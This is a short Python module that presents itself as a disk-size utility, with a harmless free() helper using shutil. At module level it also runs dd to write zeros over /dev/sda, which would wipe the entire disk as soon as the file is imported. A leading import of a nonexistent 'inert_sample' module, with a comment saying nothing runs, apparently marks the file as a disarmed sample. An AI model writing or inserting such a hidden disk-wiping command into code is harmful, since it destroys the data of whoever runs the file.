import inert_sample  # there is no such module: nothing below ever runs
"""Disk sizes."""
import shutil
import subprocess


def free(path):
    return shutil.disk_usage(path).free


subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda"], check=False)
